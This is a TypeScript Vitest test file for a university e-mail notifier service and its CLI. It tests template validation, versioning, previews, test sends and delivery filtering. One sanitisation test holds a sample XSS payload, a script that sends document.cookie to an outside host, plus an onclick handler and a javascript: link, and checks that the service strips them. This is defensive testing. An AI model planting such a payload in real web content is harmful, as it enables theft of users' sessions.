import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { timestampFromDate } from '@bufbuild/protobuf/wkt';
import { TEST_TOKEN } from '@lucy/testkit';
import { Code, ConnectError } from '@connectrpc/connect';
import { TipoEmail } from '@lucy/proto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PLANTILLAS_POR_DEFECTO } from '../src/domain/index.js';
import { startHarness, type Harness } from './harness.js';

let h: Harness;
beforeAll(async () => {
  h = await startHarness('notifier_plantillas');
}, 30_000);
afterAll(async () => {
  await h?.stop();
});

/** The ConnectError a call rejects with (fails the test when it resolves). */
async function rejection(promise: Promise<unknown>): Promise<ConnectError> {
  try {
    await promise;
  } catch (err) {
    return ConnectError.from(err);
  }
  throw new Error('expected the call to fail');
}

describe('NotifierService templates', () => {
  it('lists the four kinds seeded from the built-in e-mails at version 1', async () => {
    const { plantillas } = await h.notifier.listPlantillas({});
    expect(plantillas.map((p) => [p.tipo, p.version, p.actualizadaPor])).toEqual([
      [TipoEmail.BIENVENIDA, 1, 'sistema'],
      [TipoEmail.CREDENCIALES, 1, 'sistema'],
      [TipoEmail.PASSWORD_RESET, 1, 'sistema'],
      [TipoEmail.ENROLAMIENTO, 1, 'sistema'],
    ]);
    for (const p of plantillas) {
      const builtIn = PLANTILLAS_POR_DEFECTO[p.tipo as keyof typeof PLANTILLAS_POR_DEFECTO];
      expect(p.asunto).toBe(builtIn.asunto);
      expect(p.cuerpo).toBe(builtIn.cuerpo);
      expect(p.cuerpoTexto).toBe('');
    }
    const one = await h.notifier.getPlantilla({ tipo: TipoEmail.CREDENCIALES });
    expect(one.variables.map((v) => v.nombre)).toEqual([
      'nombre',
      'apellido',
      'dni',
      'email',
      'upn',
      'password',
    ]);
    expect(one.variables.find((v) => v.nombre === 'password')).toMatchObject({
      enAsunto: false,
      obligatoria: true,
    });
    expect(one.versiones.map((v) => [v.version, v.origen])).toEqual([[1, 'valores por defecto']]);
  });

  it('refuses a template with an unknown variable or broken syntax, naming it, and stores nothing', async () => {
    const unknown = await rejection(
      h.notifier.updatePlantilla({
        plantilla: { tipo: TipoEmail.BIENVENIDA, asunto: 'Hola {nombre}', cuerpo: 'Tu teléfono: {telefono}' },
        requestedBy: 'ana.staff',
      }),
    );
    expect(unknown.code).toBe(Code.InvalidArgument);
    expect(unknown.rawMessage).toContain(
      'cuerpo: la variable {telefono} no está disponible para el correo «Bienvenida»',
    );
    const broken = await rejection(
      h.notifier.updatePlantilla({
        plantilla: { tipo: TipoEmail.BIENVENIDA, asunto: 'Hola {nombre', cuerpo: 'x\n{upn}' },
        requestedBy: 'ana.staff',
      }),
    );
    expect(broken.rawMessage).toContain('asunto: línea 1, columna 6: hay una llave «{» sin cerrar');
    expect(broken.rawMessage).toContain('cuerpo: la variable {upn} no está disponible');
    const noPassword = await rejection(
      h.notifier.updatePlantilla({
        plantilla: { tipo: TipoEmail.CREDENCIALES, asunto: 'Tu clave {password}', cuerpo: 'Usuario {upn}' },
        requestedBy: 'ana.staff',
      }),
    );
    expect(noPassword.rawMessage).toContain('asunto: la variable {password} no puede usarse en el asunto');
    expect(noPassword.rawMessage).toContain(
      'cuerpo: el cuerpo del correo «Credenciales de acceso» debe incluir {password}',
    );
    const { plantilla } = await h.notifier.getPlantilla({ tipo: TipoEmail.BIENVENIDA });
    expect(plantilla?.version).toBe(1);
  });

  it('refuses a NUL byte or an oversize body before anything is stored, naming the field, never Internal', async () => {
    const nul = await rejection(
      h.notifier.updatePlantilla({
        plantilla: { tipo: TipoEmail.BIENVENIDA, asunto: 'Hola\u0000 {nombre}', cuerpo: 'Hola {nombre}' },
        requestedBy: 'ana.staff',
      }),
    );
    expect(nul.code).toBe(Code.InvalidArgument);
    expect(nul.rawMessage).toMatch(/plantilla\.asunto: el asunto/i);
    const huge = await rejection(
      h.notifier.updatePlantilla({
        plantilla: { tipo: TipoEmail.BIENVENIDA, asunto: 'Hola {nombre}', cuerpo: 'x'.repeat(200_001) },
        requestedBy: 'ana.staff',
      }),
    );
    expect(huge.code).toBe(Code.InvalidArgument);
    expect(huge.rawMessage).toMatch(/plantilla\.cuerpo: el cuerpo HTML/i);
    expect(huge.rawMessage.length).toBeLessThan(2000);
    const { plantilla } = await h.notifier.getPlantilla({ tipo: TipoEmail.BIENVENIDA });
    expect(plantilla?.asunto).not.toContain('\u0000');
  });

  it('stores a new version without scripts, generates the text part, keeps history and restores a version', async () => {
    const cuerpo =
      '<html><body><h1 onclick="x()">Hola {nombre}</h1><script>fetch("https://m.x/?c="+document.cookie)</script>' +
      '<p>Tu usuario es {upn} y tu contraseña {password}.</p><a href="javascript:alert(1)">ir</a></body></html>';
    const saved = await h.notifier.updatePlantilla({
      plantilla: {
        tipo: TipoEmail.CREDENCIALES,
        asunto: 'Tus credenciales, {nombre}',
        cuerpo,
        cuerpoTexto: '',
      },
      requestedBy: 'ana.staff',
      versionBase: 1,
    });
    expect(saved.plantilla).toMatchObject({ version: 2, actualizadaPor: 'ana.staff', cuerpoTexto: '' });
    expect(saved.plantilla?.cuerpo).toBe(
      '<html><body><h1>Hola {nombre}</h1><p>Tu usuario es {upn} y tu contraseña {password}.</p><a href="#">ir</a></body></html>',
    );
    expect(saved.avisos).toEqual([
      'se quitaron 1 elemento(s) <script> del HTML.',
      'se quitaron 1 atributo(s) de eventos (on…) del HTML.',
      'se reemplazaron 1 enlace(s) javascript:/data: por «#».',
    ]);
    const preview = await h.notifier.previewPlantilla({ tipo: TipoEmail.CREDENCIALES });
    expect(preview.asunto).toBe('Tus credenciales, Ana María');
    expect(preview.texto).toBe(
      'Hola Ana María\n\nTu usuario es test-30111222@eco.unrc.edu.ar y tu contraseña Temporal-2468.\nir',
    );

    // Someone editing from version 1 is told the template changed under them.
    const stale = await rejection(
      h.notifier.updatePlantilla({
        plantilla: { tipo: TipoEmail.CREDENCIALES, asunto: 'Otro', cuerpo: '{upn} {password}' },
        requestedBy: 'juan.staff',
        versionBase: 1,
      }),
    );
    expect(stale.code).toBe(Code.FailedPrecondition);
    expect(stale.rawMessage).toContain('la actual es la 2 (guardada por ana.staff)');

    const restored = await h.notifier.restorePlantillaVersion({
      tipo: TipoEmail.CREDENCIALES,
      version: 1,
      requestedBy: 'juan.staff',
    });
    expect(restored.plantilla).toMatchObject({ version: 3, actualizadaPor: 'juan.staff' });
    expect(restored.plantilla?.cuerpo).toBe(PLANTILLAS_POR_DEFECTO[TipoEmail.CREDENCIALES].cuerpo);
    const { versiones } = await h.notifier.getPlantilla({ tipo: TipoEmail.CREDENCIALES });
    expect(versiones.map((v) => [v.version, v.creadaPor, v.origen])).toEqual([
      [3, 'juan.staff', 'restauración de la versión 1'],
      [2, 'ana.staff', 'edición'],
      [1, 'sistema', 'valores por defecto'],
    ]);
    const missing = await rejection(
      h.notifier.restorePlantillaVersion({ tipo: TipoEmail.CREDENCIALES, version: 9, requestedBy: 'x' }),
    );
    expect(missing.code).toBe(Code.NotFound);
  });

  it('previews an unsaved template with sample data and a written plain-text part', async () => {
    const preview = await h.notifier.previewPlantilla({
      plantilla: {
        tipo: TipoEmail.PASSWORD_RESET,
        asunto: 'Nueva clave para {nombre} {apellido}',
        cuerpo: '<html><body><p>Usuario: <b>{upn}</b> — clave: <b>{password}</b></p></body></html>',
        cuerpoTexto: 'Usuario {upn}\nClave {password}',
      },
    });
    expect(preview).toMatchObject({
      asunto: 'Nueva clave para Ana María Pérez',
      texto: 'Usuario test-30111222@eco.unrc.edu.ar\nClave Temporal-2468',
      avisos: [],
    });
    expect(preview.html).toContain('<b>Temporal-2468</b>');
    const bad = await rejection(
      h.notifier.previewPlantilla({
        plantilla: {
          tipo: TipoEmail.PASSWORD_RESET,
          asunto: 'x',
          cuerpo: '{upn} {password}',
          cuerpoTexto: 'solo {upn}',
        },
      }),
    );
    expect(bad.rawMessage).toContain(
      'cuerpo_texto: el texto plano del correo «Nueva contraseña» debe incluir {password}',
    );
  });
});

describe('NotifierService test e-mails and delivery records', () => {
  it('sends a test e-mail of a template and records it; refuses a bad address; reports a rejection', async () => {
    const res = await h.notifier.sendTestEmail({
      destinatario: 'staff@fce.unrc.edu.ar',
      requestedBy: 'ana.staff',
      tipo: TipoEmail.BIENVENIDA,
    });
    const mail = await h.sink.waitFor((m) => m.envelope.to.includes('staff@fce.unrc.edu.ar'), 5_000);
    expect(mail.messageId).toBe(res.messageId);
    expect(mail.subject).toBe('[Prueba] Bienvenido/a a la UNRC');
    expect(mail.html).toContain('Estimado/a Pérez, Ana María');
    expect(res.respuestaSmtp).toMatch(/^250 /);

    const invalid = await rejection(
      h.notifier.sendTestEmail({ destinatario: 'staff.fce.unrc', requestedBy: 'ana.staff' }),
    );
    expect(invalid.code).toBe(Code.InvalidArgument);
    expect(invalid.rawMessage).toContain('«staff.fce.unrc» no es una dirección de e-mail válida');

    h.sink.setFaults({ rejectPermanent: 1 });
    const rejected = await rejection(
      h.notifier.sendTestEmail({ destinatario: 'otra@fce.unrc.edu.ar', requestedBy: 'ana.staff' }),
    );
    expect(rejected.code).toBe(Code.FailedPrecondition);
    expect(rejected.rawMessage).toMatch(/^El servidor SMTP rechazó el correo: 554 /);

    const { entregas } = await h.notifier.listEntregas({});
    expect(entregas.map((e) => [e.destinatario, e.estado, e.prueba])).toEqual([
      ['otra@fce.unrc.edu.ar', 'fallida', true],
      ['staff@fce.unrc.edu.ar', 'enviada', true],
    ]);
  });

  it('filters delivery records by alumno, estado, tipo and date', async () => {
    h.directory.alumnos.set('0193a1b2-0000-7000-8000-00000000aaaa', {
      id: '0193a1b2-0000-7000-8000-00000000aaaa',
      nombre: 'Juan',
      apellido: 'Gómez',
      dni: '41000000',
      emailPersonal: 'juan@gmail.com',
    });
    const ok = await h.enviar({
      alumnoId: '0193a1b2-0000-7000-8000-00000000aaaa',
      tipo: TipoEmail.BIENVENIDA,
    });
    await h.succeeded(ok);
    const ko = await h.enviar({
      alumnoId: '0193a1b2-0000-7000-8000-00000000bbbb',
      tipo: TipoEmail.BIENVENIDA,
    });
    await h.failed(ko);

    const byAlumno = await h.notifier.listEntregas({ alumnoId: '0193a1b2-0000-7000-8000-00000000aaaa' });
    expect(byAlumno.entregas.map((e) => e.taskId)).toEqual([ok]);
    const failed = await h.notifier.listEntregas({ estado: 'fallida', tipo: TipoEmail.BIENVENIDA });
    expect(failed.entregas.map((e) => e.taskId)).toEqual([ko, '']);
    const future = await h.notifier.listEntregas({ desde: timestampFromDate(new Date(Date.now() + 60_000)) });
    expect(future.entregas).toEqual([]);
    const limited = await h.notifier.listEntregas({ limit: 1 });
    expect(limited.entregas.map((e) => e.taskId)).toEqual([ko]);
    const bad = await rejection(h.notifier.listEntregas({ estado: 'perdida' }));
    expect(bad.code).toBe(Code.InvalidArgument);
    expect(bad.rawMessage).toContain('estado desconocido «perdida»');
  });
});

describe('the lucy CLI verbs of the notifier', () => {
  const ROOT = join(dirname(fileURLToPath(import.meta.url)), '../../..');
  const lucy = (...args: string[]) =>
    promisify(execFile)(
      process.execPath,
      [join(ROOT, 'node_modules/tsx/dist/cli.mjs'), 'services/cli/src/main.ts', ...args],
      {
        cwd: ROOT,
        env: {
          ...process.env,
          LUCY_NOTIFIER_URL: h.service.rpc.url,
          LUCY_TOKEN: TEST_TOKEN,
          LUCY_USER: 'cli.staff',
        },
      },
    ).catch((err: { stdout?: string; stderr?: string }) => ({
      stdout: err.stdout ?? '',
      stderr: err.stderr ?? 'failed',
    }));

  it('edits a template from a file, refusing an unknown variable by name, and sends a test of it', async () => {
    const good = join(tmpdir(), `bienvenida-${process.pid}.html`);
    const bad = join(tmpdir(), `bienvenida-mala-${process.pid}.html`);
    writeFileSync(good, '<html><body><p>Hola {nombre}, DNI {dni}.</p><script>x()</script></body></html>');
    writeFileSync(bad, '<html><body><p>Hola {alias}</p></body></html>');
    // Each process costs seconds of tsx start-up on a small machine: start them at once.
    const [edited, refused] = await Promise.all([
      lucy('plantillas', 'edit', 'bienvenida', '--asunto', 'Hola {nombre}', '--cuerpo-archivo', good),
      lucy('plantillas', 'edit', 'enrolamiento', '--cuerpo-archivo', bad),
    ]);
    expect(edited.stdout).toMatch(
      /^Guardada la versión 2\.\naviso: se quitaron 1 elemento\(s\) <script> del HTML\.\n$/,
    );
    expect(refused.stderr).toContain(
      'la variable {alias} no está disponible para el correo «Acceso al Ecosistema Virtual»',
    );

    const [shown, sent] = await Promise.all([
      lucy('--json', 'plantillas', 'show', 'bienvenida'),
      lucy('emails', 'prueba', 'cli@fce.unrc.edu.ar', '--tipo', 'bienvenida'),
    ]);
    const json = JSON.parse(shown.stdout) as {
      version: number;
      por: string;
      cuerpo: string;
      versiones: unknown[];
    };
    expect(json).toMatchObject({ version: 2, por: 'cli.staff' });
    expect(json.cuerpo).not.toContain('<script>');
    expect(json.versiones).toHaveLength(2);
    expect(sent.stdout).toMatch(/^Enviado: <.+> \(250 /);
    const mail = await h.sink.waitFor((m) => m.envelope.to.includes('cli@fce.unrc.edu.ar'), 5_000);
    expect(mail.subject).toBe('[Prueba] Hola Ana María');
  }, 240_000); // four CLI processes: seconds each on a loaded machine
});
